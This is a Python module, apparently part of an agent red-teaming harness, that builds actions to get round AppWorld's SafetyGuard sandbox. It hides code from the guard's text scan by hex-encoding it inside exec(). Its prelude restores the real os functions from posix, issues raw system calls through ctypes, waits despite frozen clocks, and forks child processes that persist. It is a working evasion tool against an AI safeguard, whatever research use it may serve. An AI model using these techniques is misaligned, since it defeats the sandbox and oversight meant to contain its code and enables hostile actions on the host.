"""How hostile code is written and sent: around AppWorld's SafetyGuard, with all that it may know.

SafetyGuard reads the text of the code, and replaces functions of `os`, `builtins`, `subprocess` and
other modules by ones that do nothing. So the text is hidden in a string, and the prelude takes the
functions from where they come from.
"""

from collections.abc import Mapping
from textwrap import dedent

PRELUDE = '''
import builtins, ctypes, errno, fcntl, gc, importlib, inspect, io, json, mmap, os, posix, re
import resource, select, signal, socket, struct, subprocess, sys, threading
from _io import open
from pathlib import Path

for name, function in vars(posix).items():
    if callable(function) and not name.startswith("__"):
        setattr(os, name, function)

libc = ctypes.CDLL(None, use_errno=True)
machine = os.uname().machine
spare = []


def done(result):
    """The result of a C function, or the error."""
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def system_call(x86_64, aarch64, *arguments):
    """A raw system call, by its number on this machine."""
    number = x86_64 if machine == "x86_64" else aarch64
    return done(libc.syscall(ctypes.c_long(number), *map(word, arguments)))


def word(argument):
    return ctypes.c_long(argument) if isinstance(argument, int) else argument


def attempt(*roads):
    """Go each road as far as it leads, whatever happens on it."""
    for number, road in enumerate(roads):
        try:
            print(number, road())
        except BaseException as error:
            print(number, "failed:", type(error).__name__, error)


def wait(seconds):
    """The clocks are frozen and time.sleep is empty, but this waits."""
    select.select([], [], [], seconds)


def hold(seconds):
    """What was reached can be seen from outside for a while."""
    wait(seconds)


def in_child(function, seconds):
    """Go on in a process of its own, for a while."""
    pid = os.fork()
    if pid == 0:
        try:
            function()
            wait(seconds)
        finally:
            os._exit(0)
    return pid
'''


def smuggle(code: str, known: Mapping[str, object]) -> str:
    """An action that executes code which AppWorld's SafetyGuard would refuse.

    Args:
        code: Python.
        known: What an attacker could find out, as the variable `known`.
    """
    whole = f"{PRELUDE}\nknown = {dict(known)!r}\n{dedent(code)}"
    return plain(f"exec(bytes.fromhex('{whole.encode().hex()}').decode())")


def plain(code: str) -> str:
    """An action that executes code."""
    return f"```python\n{code}\n```"
